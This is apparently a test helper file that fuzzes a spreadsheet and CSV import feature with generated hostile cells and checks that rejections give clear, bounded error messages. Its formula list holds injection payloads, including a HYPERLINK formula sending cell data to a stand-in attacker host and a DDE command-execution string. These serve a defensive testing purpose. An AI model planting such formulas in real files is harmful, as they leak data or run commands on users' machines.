import fc from 'fast-check';
import { expect } from 'vitest';
import { InputError, type InputProblem } from '../src/core/app-error.js';
import type { ImportKind } from '../src/features/imports/index.js';

/**
 * Generated inputs per format. The default keeps the suite within CI's time on two cores;
 * POLON_FUZZ_RUNS=100000 runs a longer search, POLON_FUZZ_SEED another seed.
 */
export const FUZZ_RUNS = Number(process.env.POLON_FUZZ_RUNS ?? 10_000);
const SEED = Number(process.env.POLON_FUZZ_SEED ?? 20_261_126);

/**
 * fast-check's settings: a fixed seed, so a failure is reported with the seed and path that
 * replay it; an input that takes over 10 s (a hang) fails its run.
 */
export const fuzz = (numRuns: number): fc.Parameters<unknown> => ({
  numRuns: Math.max(1, Math.round(numRuns)),
  seed: SEED,
  endOnFailure: true,
  timeout: 10_000,
});

/** A share of FUZZ_RUNS, for properties whose inputs are slow to make or to check. */
export const share = (fraction: number, atLeast = 50): number =>
  Math.max(atLeast, Math.round(FUZZ_RUNS * fraction));

const STACK_LINE = /\n\s+at /;

/** A problem a person can act on: where, what, how to fix; short, and no stack trace. */
export function expectClearProblem(p: InputProblem, file: string): void {
  expect(p.file).toBe(file);
  expect(typeof p.message).toBe('string');
  expect(p.message.length).toBeGreaterThan(0);
  expect(p.message.length).toBeLessThanOrEqual(400);
  expect(p.message).not.toMatch(STACK_LINE);
  expect(p.fix.length).toBeGreaterThan(0);
  expect(p.fix.length).toBeLessThanOrEqual(600);
  if (p.row !== undefined) expect(Number.isInteger(p.row) && p.row >= 1).toBe(true);
  if (p.column !== undefined) expect(p.column.length).toBeLessThanOrEqual(100);
  if (p.value !== undefined) expect(p.value.length).toBeLessThanOrEqual(100);
}

/** A rejection is an InputError listing clear problems; anything else (a TypeError) is a bug. */
export function expectClearRejection(err: unknown, file: string): void {
  if (err === undefined) throw new Error(`${file} was accepted; a rejection was expected`);
  // Rethrown as it is, so the report shows the crash's own stack.
  if (!(err instanceof InputError))
    throw err instanceof Error ? err : new Error(`not an Error: ${JSON.stringify(err)}`);
  expect(err.problems.length).toBeGreaterThan(0);
  expect(err.problems.length).toBeLessThanOrEqual(1000);
  expect(err.message.length).toBeLessThanOrEqual(600);
  for (const p of err.problems) expectClearProblem(p, file);
}

/** Notices are shown to the user as they are: bounded, whatever the file held. */
export function expectShortNotices(notices: string[]): void {
  for (const n of notices) expect(n.length).toBeLessThanOrEqual(3000);
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=1+2',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
];
const SEEMS_VALID = [
  '',
  ' ',
  '2024-01-03',
  '2024-01',
  '2024',
  '31.02.2024',
  '5/3/2024',
  '0',
  '230',
  '-1',
  '1e9',
  'NaN',
  'exact',
  'about',
  'exchange',
  'male',
  'captured',
  'sizo',
  'RU',
  'https://example.org/a',
  'reg',
  'src-1',
  'Тестенко',
  'Іван Тестович',
  'Всього',
  'Total',
  'null',
  'true',
  '__proto__',
  'constructor',
];

/** A cell as hostile files write them: plausible values, formulas, CSV syntax and any code point. */
export const cellArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SEEMS_VALID) },
  { weight: 1, arbitrary: fc.constantFrom(...FORMULAS) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.constantFrom('"', ',', ';', '\n', '\r', ' ', 'а', 'ї', 'x', '1', '\uFEFF', '='),
      maxLength: 12,
    }),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
);

/** Headers: the kind's own columns and aliases, KoboToolbox group paths, and noise. */
export function headerArb(kind: ImportKind<unknown>): fc.Arbitrary<string[]> {
  const names = [
    ...kind.columns.map((c) => c.name),
    ...Object.values(kind.headerAliases ?? {}).flat(),
  ];
  const named = fc.constantFrom(...names);
  return fc.array(
    fc.oneof(
      { weight: 6, arbitrary: named },
      {
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom('group_a', 'detention', 'person/details', 'meta'), named)
          .map(([g, n]) => `${g}/${n}`),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom('_id', '_uuid', '_submission_time', '_index', 'meta/instanceID'),
      },
      { weight: 2, arbitrary: cellArb },
    ),
    { maxLength: Math.min(names.length + 4, 16) },
  );
}

/** A table: header and rows of cells, rows sometimes longer or shorter than the header. */
export function tableArb(kind: ImportKind<unknown>): fc.Arbitrary<string[][]> {
  return headerArb(kind).chain((header) =>
    fc
      .array(fc.array(cellArb, { minLength: 0, maxLength: header.length + 2 }), { maxLength: 8 })
      .map((rows) => [header, ...rows]),
  );
}

/**
 * Tables that mostly pass: rows of sources, person records or exchanges with valid values,
 * a few cells swapped for hostile ones, so the writes are exercised as well as the refusals.
 */
export const plausibleTableArb: fc.Arbitrary<{ kind: string; grid: string[][] }> = fc
  .tuple(
    fc.constantFrom('sources', 'persons', 'exchanges'),
    fc.array(fc.nat({ max: 50 }), { minLength: 1, maxLength: 6 }),
    fc.array(fc.option(cellArb, { freq: 12, nil: undefined }), { minLength: 42, maxLength: 42 }),
  )
  .map(([kind, ns, swaps]) => {
    const rows = [...new Set(ns)].map((n): string[] => {
      if (kind === 'sources') return [`src-${n}`, `Synthetic source ${n}`];
      if (kind === 'persons')
        return ['reg', String(n), `Тестенко${n}`, 'Іван', `${1950 + (n % 50)}`];
      const day = `2024-01-${String(1 + (n % 28)).padStart(2, '0')}`;
      return [`${day}-x${n}`, day, 'exchange', String(10 + n), 'exact', String(n), 'reg'];
    });
    const header =
      kind === 'sources'
        ? ['id', 'title']
        : kind === 'persons'
          ? ['source', 'record_id', 'family_name', 'given_name', 'birth_date']
          : ['id', 'date_start', 'kind', 'returned', 'returned_qualifier', 'military', 'sources'];
    let i = 0;
    const grid = rows.map((r) => r.map((c) => swaps[i++ % swaps.length] ?? c));
    return { kind, grid: [header, ...grid] };
  });
